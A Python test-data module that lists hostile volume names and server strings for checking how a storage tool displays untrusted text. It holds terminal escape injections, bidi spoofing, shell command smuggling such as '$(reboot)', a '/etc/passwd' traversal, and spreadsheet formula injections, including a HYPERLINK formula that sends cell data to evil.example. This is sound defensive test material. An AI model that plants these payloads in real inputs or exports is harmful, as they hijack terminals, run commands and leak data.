"""Texts that mean harm, as data: what a tenant can call a volume, and a server can say."""

from __future__ import annotations

import itertools
import unicodedata
from typing import Final

CONTROLS: Final = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
INTRODUCERS: Final = {
    "CSI": ("\x1b[", "\x9b"),
    "OSC": ("\x1b]", "\x9d"),
    "DCS": ("\x1bP", "\x90"),
    "APC": ("\x1b_", "\x9f"),
    "PM": ("\x1b^", "\x9e"),
    "SOS": ("\x1bX", "\x98"),
}
ENDS: Final = ("\x07", "\x1b\\", "\x9c", "")
STRINGS: Final = [f"{begin}0;owned{end}" for both in INTRODUCERS.values() for begin in both for end in ENDS]

CSI: Final = [
    begin + rest
    for begin, rest in itertools.product(
        ("\x1b[", "\x9b"),
        (
            "2J",
            "H",
            "10A",
            "1G",
            "3J",
            "?1049h",
            "?25l",
            "?1000h",
            "?2004h",
            "1;1r",
            "4h",
            "20h",
            "6n",
            "c",
            "8m",
            "31m",
        ),
    )
]
OSC: Final = [
    f"\x1b]{body}{end}"
    for body, end in itertools.product(
        (
            "0;title",
            "1;icon",
            "2;title",
            "8;;http://evil.example\x07click\x1b]8;;",
            "52;c;ZXZpbA==",
            "52;p;?",
            "4;1;#ff0000",
            "10;?",
            "7;file:///etc",
            "9;notify",
            "133;A",
            "777;notify;a;b",
            "1337;File=inline=1:AAAA",
        ),
        ("\x07", "\x1b\\"),
    )
]
ESCAPES: Final = [
    "\x1bc",
    "\x1b7",
    "\x1b8",
    "\x1b#8",
    "\x1b(0",
    "\x1b%G",
    "\x1b=",
    "\x1bM",
    "\x1bD",
    "\x1bE",
    "\x1bZ",
    "\x1bN",
]
BIDI: Final = [f"a{sign}gpj.exe" for sign in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
INVISIBLE: Final = [
    f"pg{sign}-data"
    for sign in (
        *"\u200b\u200c\u200d\u2060\u2061\u2064\ufeff\xad\u034f\u115f\u1160\u3164\uffa0\u17b4\u17b5\u180b\u180d\u180e\u180f",
        *"\u2800\ufe00\ufe0e\ufe0f\U000e0100\U000e01ef\U000e0001\U000e0041\U000e007f\U0001d159\U0001d173\U00016fe4\ufff9",
    )
]
SPACES: Final = [f"pg{sign}data" for sign in "\xa0\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000"]
NOWHERE: Final = ["\ue000", "\uf8ff", "\U000f0000", "\U0010ffff", "\ufffe", "\uffff", "\ufdd0", "\u0378", "\U0001fffe"]
MARKUP: Final = [
    *("[/]", "[/red]", "[red]x", "[bold red on white]x[/]", "[link=http://evil.example]x[/link]", "[", "]", "[[", "[]"),
    *(
        ":smile:",
        ":skull:",
        "[blink]x",
        "[@click=quit]x[/]",
        "\\[red]",
        "[/prod]",
        "[#ff0000]x",
        "{x}",
        "{0!r}",
        "[not]",
    ),
    *(
        "%s%n%x",
        "%(name)s",
        "${HOME}",
        "$(reboot)",
        "`reboot`",
        "'; reboot; '",
        "<script>",
        "&lt;",
        "\\x1b[31m",
        "\\u001b",
    ),
]
MARKS: Final = [
    "a" + "\u0301" * 10_000,
    *("Z" + "\u0336" * 60, "e\u0301" * 5, "\u0301alone", "x" + "\u20dd" * 9, "n" + "\u0489" * 30),
    "".join(chr(code) for code in range(0x300, 0x340)),
]
WIDE: Final = [
    *(
        "数据库备份",
        "データベース",
        "데이터",
        "ｆｕｌｌｗｉｄｔｈ",
        "שלום עולם",
        "مرحبا",
        "नमस्ते",
        "ไทย",
        "ﷺ",
        "𠜎𠜱",
        "🙂",
        "🏳",
    ),
    *("👨\u200d👩\u200d👧", "🇨🇳", "1\ufe0f\u20e3", "👍🏽", "ä", "a\u0308", "ﬁ", "㍿", "𝒵", "Ａ１", "ß", "ı", "İ", "ſ"),
]
IMITATIONS: Final = [
    *(
        "\\u{1b}[31m",
        "zvol: 3 recovered",
        "x\nzvol: recovered",
        "x\r\x1b[2K",
        "a\u2028zvol: ok",
        "-",
        "--",
        " ",
        "  lead",
        "trail ",
    ),
    *(
        "NAME  UUID",
        "d0a7a5e0c0de4b1e8a5efeedbead0001",
        "null",
        "true",
        "NaN",
        "0",
        '"',
        "'",
        "\\",
        "//",
        "a,b;c|d",
        "#",
        "~",
    ),
    *("a" * 10_000, "数" * 5_000, "../../etc/passwd", "con", "*", "?", "[a-z]", "%", "_", "=1+1", "@SUM(A1)", "a\x00b"),
]
NAMES: Final = [
    *CONTROLS,
    *STRINGS,
    *CSI,
    *OSC,
    *ESCAPES,
    *BIDI,
    *INVISIBLE,
    *SPACES,
    *NOWHERE,
    *MARKUP,
    *MARKS,
    *WIDE,
    *IMITATIONS,
]
HALVES: Final = ["\ud800", "a\udfffb", "\udc80\udcff", "\ud83d", "\ude42\ud83d"]
"""Halves of surrogate pairs: no server's JSON may hold them, but arguments and files of this machine can."""

FORMULAS: Final = [
    lead + body
    for lead, body in itertools.product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "SUM(A1:A9)*1", "1,2"),
    )
] + ["x;=1+1", "x\t=1+1", 'x";=1+1;"', "a\n=1+1", "'=1+1", '"=1+1"', "=", "-", "@@"]


def forbidden(text: str) -> list[str]:
    """Return the characters that must not reach a terminal: everything that is not plainly visible."""
    found = {char for char in {*text} - {*" \n"} if unicodedata.category(char)[0] in "CZ"}
    return [char for char in text if char in found] if found else []
